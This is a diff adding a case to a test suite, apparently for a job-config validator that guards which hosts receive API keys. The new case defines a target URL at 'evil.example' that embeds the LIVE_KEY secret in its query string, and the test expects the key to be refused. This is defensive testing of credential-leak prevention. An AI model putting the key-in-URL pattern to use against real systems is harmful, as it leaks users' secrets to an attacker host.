@@ -203,6 +203,13 @@ describe('a job that nobody has submitted', () => {
     const usual = jobOf(file, `target: ${target.replace(':8443', '')}\n${USERS}`);
     for (const host of ['api.example', 'api.example:443'])
       expect([host, await answer(own, usual, `${keys(host)}\nfolders: [.]`)]).toEqual([host, 'ok']);
+    const unused = jobOf(
+      file,
+      'target: { baseUrl: "https://api.example/v3", apiKey: { env: LIVE_KEY } }\n' +
+        `targets: { other: { baseUrl: "https://evil.example/v3?k=${variable('LIVE_KEY')}" } }\n${USERS}`,
+    );
+    const live = 'folders: [.]\nkeys: [{ env: LIVE_KEY, host: api.example }]';
+    expect(await answer(own, unused, live)).toBe('FLEET.KEY_REFUSED');
     const aside = jobOf(`${file} --to evil`, `${SANDBOX}targets: { evil: ${target} }\n${USERS}`);
     expect(jobSchema.safeParse(aside).success).toBe(false);
   });
